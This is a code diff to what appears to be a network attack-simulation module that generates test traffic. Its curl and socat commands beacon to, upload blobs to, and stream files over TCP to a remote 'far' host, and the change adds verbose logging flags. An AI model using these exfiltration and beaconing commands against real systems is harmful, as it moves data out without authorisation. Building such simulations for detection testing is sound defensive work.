@@ -5,7 +5,7 @@ Owns: both ends of each, command lines and own programs. Refuses: to carry anyth
 
 from __future__ import annotations
 
-from attacks.common import RAW, AttackSpec, Hosts, Path, Program, Scene, own, seed
+from attacks.common import RAW, TELLING, AttackSpec, Hosts, Path, Program, Scene, own, seed
 from scenario import tool
 
 LOW_PORT = ("net_bind_service",)
@@ -57,7 +57,7 @@ def beacon_curl(
     way = "https" if tls else "http"
     port = port or PORTS[way]
     return [far(scene, hosts, way, port, answers),
-            Program(("curl", "-sk", "-o", "/dev/null", "--rate", f"{a_minute}/m", "-H", "Connection: close",
+            Program(("curl", "-sk", *TELLING, "-o", "/dev/null", "--rate", f"{a_minute}/m", "-H", "Connection: close",
                      f"{way}://{hosts.far[0]}:{port}/news?n=[1-{count}]"))]
 
 
@@ -104,7 +104,7 @@ def burst_curl(
     port = port or PORTS[way]
     slower = ("--limit-rate", limit) if limit else ()
     return [far(scene, hosts, way, port, "0-40"),
-            Program(("curl", "-sk", "-o", "/dev/null", *slower, "-T", str(blob(scene, size)),
+            Program(("curl", "-sk", *TELLING, "-o", "/dev/null", *slower, "-T", str(blob(scene, size)),
                      f"{way}://{hosts.far[0]}:{port}/in/"))]
 
 
@@ -113,7 +113,7 @@ def burst_socat(scene: Scene, _: AttackSpec, hosts: Hosts, *, size: int, port: i
     """A file through a bare connection."""
     listening = Program(("socat", "-u", f"TCP-LISTEN:{port},fork,reuseaddr", "OPEN:/dev/null"), far=True, serves=True)
     to = f"TCP:{hosts.far[0]}:{port},retry=10,interval=0.3"
-    return [listening, Program(("socat", "-u", f"OPEN:{blob(scene, size)}", to))]
+    return [listening, Program(("socat", "-d", "-d", "-u", f"OPEN:{blob(scene, size)}", to))]
 
 
 @tool("drip", "talk")
@@ -133,7 +133,7 @@ def drip_curl(scene: Scene, _: AttackSpec, hosts: Hosts, *, a_minute: int, count
     way = "https" if tls else "http"
     port = port or PORTS[way]
     return [far(scene, hosts, way, port, "0-30"),
-            Program(("curl", "-sk", "-o", "/dev/null", "--rate", f"{a_minute}/m", "-H", "Connection: close",
+            Program(("curl", "-sk", *TELLING, "-o", "/dev/null", "--rate", f"{a_minute}/m", "-H", "Connection: close",
                      "-H", "Expect:", "--data-binary", f"@{blob(scene, size)}",
                      f"{way}://{hosts.far[0]}:{port}/api/log?n=[1-{count}]"))]
 
